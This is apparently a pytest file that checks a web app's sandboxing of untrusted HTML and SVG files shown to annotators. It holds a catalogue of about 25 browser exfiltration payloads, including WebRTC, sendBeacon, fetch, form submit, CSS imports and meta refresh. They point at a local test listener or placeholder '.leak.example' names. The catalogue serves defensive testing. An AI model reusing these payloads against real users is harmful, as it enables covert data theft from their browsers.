"""Files that send data out of an annotator's browser: nothing before a click, after it what the page says.

The addresses are servers of this test and names that nobody has: Chromium's own log of the network says which
names it looked up. A Chromium without Connection-Allowlist stands for browsers that do not know it.
"""

import http.server
import json
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Response, expect, sync_playwright

from draftloop.cli import servers
from draftloop.execution.artifacts import Artifacts
from draftloop.runs.run import Run
from tests.code_runs import attempt, run, write
from tests.conftest import CHROMIUM, CHROMIUM_FLAGS, installed, missing

RAN = "<script>document.title = 'ran'</script>"
PEER = """<script>
const turn = {urls: ['turn:AT', 'turn:AT?transport=tcp'], username: 'sales', credential: 'x'};
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:AT'}, turn]});
peer.createDataChannel('a');
peer.createOffer().then(offer => peer.setLocalDescription(offer));
</script>"""
RELS = "prefetch preconnect dns-prefetch stylesheet icon manifest modulepreload prerender next"
# Ways out; AT is an address of this test, or a name that nobody has.
WAYS = {
    "webrtc": PEER,
    "webrtc-in-a-frame": '<iframe srcdoc="' + PEER.replace('"', "&quot;") + '"></iframe>',
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
    '["https://AT/1", "http://AT/2"]}], "prerender": [{"source": "list", "urls": ["https://AT/3"]}]}</script>',
    "link": "".join(f"<link rel={rel} href=http://AT/{rel}>" for rel in RELS.split()),
    "preload": "<link rel=preload as=image href=http://AT/a><link rel=preload as=fetch href=http://AT/b>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://AT/refresh'>",
    "location": "<script>location = 'http://AT/location'</script>",
    "top": "<script>top.location = 'http://AT/top'</script>",
    "open": "<script>open('http://AT/open')</script>",
    "form": "<form id=f action=http://AT/form><input name=a></form><script>f.submit()</script>",
    "ping": "<a id=a href='#x' ping=http://AT/ping>x</a><script>a.click()</script>",
    "anchor": "<a id=a href=http://AT/anchor>x</a><script>a.click()</script>",
    "beacon": "<script>navigator.sendBeacon('http://AT/beacon', 'x')</script>",
    "fetch": "<script>fetch('http://AT/fetch', {mode: 'no-cors'}); import('http://AT/import')</script>",
    "events": "<script>new EventSource('http://AT/events'); new WebSocket('ws://AT/socket')</script>",
    "transport": "<script>new WebTransport('https://AT/transport')</script>",
    "picture": "<img src=http://AT/1 srcset='http://AT/2 2x'><script>new Image().src = 'http://AT/3'</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://AT/worker')\"])))</script>",
    "svg": "<svg><image href='http://AT/image'/><use href='http://AT/use#a'/><foreignObject>"
    "<iframe src='http://AT/foreign'></iframe></foreignObject></svg>",
    "css": "<style>@import 'http://AT/import.css'; body {background: url(http://AT/url)}"
    "@font-face {font-family: x; src: url(http://AT/font)} p {font-family: x}</style><p>x",
    "frame": "<iframe src=http://AT/1></iframe><object data=http://AT/2></object><embed src=http://AT/3>",
    "inner-frame": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=http://AT/inner'>\"></iframe>"
    "<iframe srcdoc=\"<script>location = 'http://AT/inner'</script>\"></iframe>",
    "base": "<base href=http://AT/><img src=base.png><script>fetch('base')</script>",
    "media": "<video src=http://AT/video poster=http://AT/poster></video><audio src=http://AT/audio></audio>",
}
STILL = "<p>汇总<img src=http://AT/img><table background=http://AT/table><tr><td>1</table>" + WAYS["css"]
FOREIGN = (
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://AT/image'/><foreignObject>"
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='http://AT/foreign'/></foreignObject></svg>"
)
PICTURE = "<?xml-stylesheet href='http://AT/style'?>" + FOREIGN.replace("http://www.w3.org/1999/xhtml", "x")
WAIT_MS = 3000


@dataclass
class Listening:
    """Servers at an address that is not this machine's loopback, which WebRTC leaves out."""

    address: str
    arrived: list[str] = field(default_factory=list)

    def demand_nothing(self) -> None:
        assert self.arrived == []


def _note_packets(udp: socket.socket, arrived: list[str]) -> None:
    while True:
        try:
            content = udp.recv(4096)
        except OSError:
            return
        if not content:
            return
        arrived.append("udp")


def _note_connections(tcp: socket.socket, arrived: list[str]) -> None:
    while True:
        try:
            one, _ = tcp.accept()
        except OSError:
            return
        with one:
            one.settimeout(0.5)
            try:
                line = one.recv(200).split(b"\r\n")[0]
            except OSError:
                line = b""
        arrived.append(line.decode() if line.startswith((b"GET", b"POST")) else "tcp")


@contextmanager
def listening() -> Iterator[Listening]:
    """Count what comes by UDP and TCP at one port."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # sends nothing
        host = probe.getsockname()[0]
    with socket.create_server((host, 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        port = tcp.getsockname()[1]
        udp.bind((host, port))
        listener = Listening(f"{host}:{port}")
        threads = [
            threading.Thread(target=_note_packets, args=[udp, listener.arrived], daemon=True),
            threading.Thread(target=_note_connections, args=[tcp, listener.arrived], daemon=True),
        ]
        for thread in threads:
            thread.start()
        try:
            yield listener
        finally:
            tcp.shutdown(socket.SHUT_RDWR)
            udp.sendto(b"", (host, port))
            for thread in threads:
                thread.join()


@dataclass(frozen=True)
class Served:
    url: str
    run: Run

    def address(self, name: str) -> str:
        """Return the address of a file, as links contain it."""
        (file,) = [file for file in self.run.last.files if file.path == name]
        return f"{self.url}/a/{file.sha256}?name={name}"


@contextmanager
def served(folder: Path, contents: dict[str, str]) -> Iterator[Served]:
    """Serve a run that left these files."""
    store = Artifacts(f"{folder}/kept")
    files = write(folder / "left", {name: content.encode() for name, content in contents.items()})
    store.keep(folder / "left", files)
    made = run(attempt(files=files))
    store.put_run(made)
    settings = {
        "ARTIFACTS_URL": store.url,
        "CACHE_URL": "",
        "EXECUTION": "off",
        "LEDGER_URL": f"sqlite:///{folder}/ledger.sqlite3",
        "MODEL_URL": "http://127.0.0.1:9/v1",
    }
    with installed(), servers.start_backend(settings, log=folder / "backend.log") as server:
        yield Served(server.url, made)


@contextmanager
def browsing(log: Path, *flags: str) -> Iterator[BrowserContext]:
    """Open a Chromium that writes down what it does on the network; the log is whole afterwards."""
    if not CHROMIUM.exists():
        missing(f"{CHROMIUM} is missing. Run: scripts/setup --browser")
    arguments = [*CHROMIUM_FLAGS, f"--log-net-log={log}", *flags]
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield chromium.new_context()
        chromium.close()


def looked_up(log: Path) -> set[str]:
    """Return which of the unregistered names were looked up."""
    record = json.loads(log.read_text(encoding="utf-8"))
    kinds = {
        number
        for name, number in record["constants"]["logEventTypes"].items()
        if name.startswith("HOST_RESOLVER")
    }
    words = [json.dumps(event.get("params")) for event in record["events"] if event["type"] in kinds]
    assert any("127.0.0.1" in word for word in words), "the log holds no look-ups"
    return {way for way in [*WAYS, *OTHERS] for word in words if f"{way}.leak.example" in word}


OTHERS = {"still.html": STILL, "foreign.svg": FOREIGN, "picture.svg": PICTURE}


def contents_at(address: str) -> dict[str, str]:
    """Write every way once to an address and once to a name."""
    contents = {}
    for way, content in WAYS.items():
        page = f"<!DOCTYPE html><title>x</title><body>{RAN}{content}"
        contents[f"{way}.html"] = page.replace("AT", address)
        contents[f"{way}-name.html"] = page.replace("AT", f"{way}.leak.example:80")
    for name, content in OTHERS.items():
        contents[name] = content.replace("AT", address)
        contents[f"name-{name}"] = content.replace("AT", f"{name}.leak.example:80")
    return contents


def open_all(context: BrowserContext, there: Served) -> dict[str, Page]:
    """Open the run's page, scroll through it, and open every file by itself."""
    tab = context.new_page()
    tab.goto(f"{there.url}/runs/{there.run.key}")
    for frame in tab.locator("figure").all():
        frame.scroll_into_view_if_needed()
    tabs = {}
    for file in there.run.last.files:
        tabs[file.path] = context.new_page()
        if file.path.endswith("foreign.svg"):
            with pytest.raises(Exception, match="Download is starting"):
                tabs[file.path].goto(there.address(file.path))
        else:
            tabs[file.path].goto(there.address(file.path))
    tab.wait_for_timeout(WAIT_MS)
    for name, tab in tabs.items():
        assert [frame.title() for frame in tab.frames if frame.title() == "ran"] == [], name
    return tabs


def click(tab: Page) -> None:
    """Have a page run the script of its file."""
    tab.bring_to_front()
    tab.get_by_role("link", name="Run this file's script").click()


def run_scripts(tabs: dict[str, Page]) -> None:
    """Click where a page asks whether to run the script of its file; wait until it has run."""
    for name, tab in tabs.items():
        if name.endswith(".html") and "still" not in name:
            click(tab)
    tab.wait_for_timeout(WAIT_MS)
    # Where a frame was led elsewhere, its first page is gone.
    led = ("refresh", "location", "anchor")
    for name, tab in tabs.items():
        if name.endswith(".html") and "still" not in name and not name.startswith(led):
            assert "ran" in [frame.title() for frame in tab.frames], name


def test_nothing_leaves_before_or_after_a_click_in_this_chromium(tmp_path: Path) -> None:
    log = tmp_path / "net.json"
    with listening() as listener, served(tmp_path, contents_at(listener.address)) as there:
        with browsing(log) as context:
            tabs = open_all(context, there)
            listener.demand_nothing()
            ended = {name: tab for name, tab in tabs.items() if name.startswith("webrtc-in-a-frame")}
            run_scripts({name: tab for name, tab in tabs.items() if name not in ended})
            listener.demand_nothing()
            # Chromium 156 ends the process of this page, which others share.
            for tab in ended.values():
                click(tab)
                time.sleep(WAIT_MS / 1000)
                listener.demand_nothing()
        assert looked_up(log) == set()


def test_other_browsers_send_only_what_the_page_warns_of(tmp_path: Path) -> None:
    before, after = tmp_path / "before.json", tmp_path / "after.json"
    flag = "--disable-features=ConnectionAllowlists"
    with listening() as listener, served(tmp_path, contents_at(listener.address)) as there:
        with browsing(before, flag) as context:
            open_all(context, there)
            listener.demand_nothing()
        assert looked_up(before) == set()
        with browsing(after, flag) as context:
            tabs = open_all(context, there)
            listener.demand_nothing()
            words = tabs["webrtc.html"].locator("main").inner_text()
            run_scripts(tabs)
        # No request, but WebRTC and names, as the page says where it asks.
        assert set(listener.arrived) == {"udp", "tcp"}
        assert {"webrtc", "webrtc-in-a-frame"} <= looked_up(after)
        assert looked_up(after) <= {"webrtc", "webrtc-in-a-frame", *CONNECTED}
        assert "by WebRTC" in words
        assert "names of hosts that it has looked up" in words


# Refused as well, after Chromium has looked the name up and connected.
CONNECTED = ("refresh", "location", "anchor", "svg", "frame", "inner-frame", "link")


def test_no_other_page_runs_a_script(tmp_path: Path) -> None:
    drawn = "<script>document.body.insertAdjacentHTML('beforeend', '<p id=drawn>')</script>"
    contents = {"plot.html": f"<!DOCTYPE html><title>x</title><body>{drawn}"}
    with served(tmp_path, contents) as there:
        address = there.address("plot.html")
        asked = f"{there.url}/runs/{there.run.key}?script={there.run.last.files[0].sha256}"
        page = (
            f"<a id=run href='{address}&script=run'>x</a><a id=raw href='{address}&as=script'>x</a>"
            f"<a id=page href='{asked}'>x</a>"
            f"<iframe src='{address}&as=script'></iframe><iframe src='{address}&script=run'></iframe>"
            f"<iframe src='{address}&as=frame'></iframe><object data='{address}&as=script'></object>"
        )
        with elsewhere(page) as other, browsing(tmp_path / "net.json") as context:
            given: list[str] = []  # script that a frame or a tab got
            context.on("response", lambda one: given.append(one.url) if is_script(one) else None)
            tab = context.new_page()
            for url in (f"{address}&as=script", f"{address}&script=run", address, other):
                tab.goto(url)
                tab.wait_for_timeout(500)
            for name in ("run", "raw", "page"):
                tab.goto(other)
                tab.locator(f"#{name}").click()
                tab.wait_for_url(f"{there.url}/**")
                tab.wait_for_timeout(500)
            assert given == []
            tab.goto(f"{there.url}/runs/{there.run.key}")
            click(tab)
            expect(tab.frame_locator("iframe[sandbox='allow-scripts']").locator("#drawn")).to_be_attached()
            assert given == [f"{address}&as=script"]


def is_script(answer: Response) -> bool:
    return answer.ok and "allow-scripts" in answer.headers.get("content-security-policy", "")


@contextmanager
def elsewhere(page: str) -> Iterator[str]:
    """Serve a page of somebody else."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()
